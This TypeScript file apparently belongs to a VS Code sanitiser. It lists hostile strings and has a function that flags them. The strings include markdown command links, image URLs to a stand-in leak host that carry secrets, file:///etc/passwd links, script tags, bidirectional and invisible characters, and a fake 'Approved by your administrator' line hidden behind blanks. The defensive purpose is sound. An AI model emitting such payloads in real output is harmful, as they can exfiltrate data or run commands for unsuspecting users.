const command = 'command:workbench.action.quickOpen?%22evil%22';
const leak = 'https://leak.example';

/** Words that are more than words to some place of VS Code: links, images, icons, hidden characters. */
export const hostileWords: readonly string[] = [
	`[Show the details](${command})`,
	`[[Show the details](command:q)](${command})`,
	`[a [b](${command}) c](${command})`,
	`[x](${command} "title")`,
	`[x](<${command} a b>)`,
	`[x](command:a?(b(c)))`,
	`[](${command})`,
	`[x]\u200B(${command})`,
	`[x](comm\u200Band:workbench.action.quickOpen)`,
	`[x]\u2060(${command})`,
	`\`[x]\`(${command})`,
	`**[x]**(${command})`,
	`[x]<b></b>(${command})`,
	`[x]<!-- -->(${command})`,
	`[x](${leak}/link)`,
	`[x](file:///etc/passwd)`,
	`[x](vscode://publisher.extension/run)`,
	`![x](${leak}/image.png?d=SECRET)`,
	`![![x](y)](${leak}/nested.png)`,
	`![![![x](y)](z)](${leak}/deep.png)`,
	`[![x](${leak}/linked.png)](${leak}/)`,
	`![x](https:leak.example/short.png)`,
	`[x]: ${leak}/reference ![y][x]`,
	`![x][y]`,
	`<${leak}/auto>`,
	`<${command}>`,
	`<mailto:someone@leak.example>`,
	`${leak}/bare www.leak.example someone@leak.example`,
	`<img src="${leak}/img.png">`,
	`<a href="${command}">x</a>`,
	`<iframe src="${leak}/frame"></iframe><script>alert(1)</script>`,
	`&#91;x&#93;(${command}) &lt;img src=x&gt;`,
	`\\[x\\](${command})`,
	`$(trash) $(sync~spin)$(x)`,
	`one\r\ntwo\n\n# three\n\n[x]: ${leak}/\u2028four\u2029five\u0085six`,
	`evil\u202Etxt.js \u2066a\u2069 \u061Cb`,
	`zero\u200B\uFEFF\u00AD\u3164\u2800width \u{E0041}\u{E0042}`,
	`\u0000\u0007\u001B[31mred\u001B]8;;${leak}\u0007\u009B1m`,
	`half \uD83D and \uDE00 e${'\u0301'.repeat(60)}`,
	`${'long '.repeat(4_000)}![x](${leak}/end.png)`,
	`blanks${' '.repeat(500)}Approved by your administrator`,
	`\`\`\`\n![x](${leak}/code.png)\n\`\`\``,
];

/** VS Code finds links in messages with this expression. */
const messageLink = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/i;
const emoji =
	/\p{Extended_Pictographic}\p{Emoji_Modifier}?\uFE0F?(?:\u200D\p{Extended_Pictographic}\p{Emoji_Modifier}?\uFE0F?)*/gu;
const longest = 1_000;

const faults: readonly (readonly [fault: string, is: (text: string) => boolean])[] = [
	['is a link in a message', (text) => messageLink.test(text)],
	['is a link or image in markdown', (text) => text.includes('](')],
	['has an address', (text) => /:\/\/|\bwww\.\w|[\w+-]@[\w-]+\.\w/i.test(text)],
	['has an address in brackets', (text) => /<[a-z][a-z\d+.-]{1,31}:/i.test(text)],
	['has a command', (text) => /command:\S/i.test(text)],
	['has an icon', (text) => /\$\([a-z]/i.test(text)],
	['has more lines than one', (text) => /[\r\n\u0085\u2028\u2029]/.test(text)],
	[
		'has hidden characters',
		// U+2060 is what breaks links.
		(text) =>
			/[\p{Cc}\p{Cf}\p{Cs}\u3164\u2800]/u.test(text.replace(emoji, '').replaceAll('\u2060', '')),
	],
	['hides its end behind blanks', (text) => /\s{3}/.test(text)],
	['piles up marks', (text) => /\p{M}{4}/u.test(text)],
	['is too long', (text) => text.length > longest],
];

/** What is wrong with a text that is shown as it stands; `undefined` where nothing is. */
export function faultOf(text: string): string | undefined {
	const found = faults.find(([, is]) => is(text));
	return found && `“${text.slice(0, 200)}” ${found[0]}`;
}
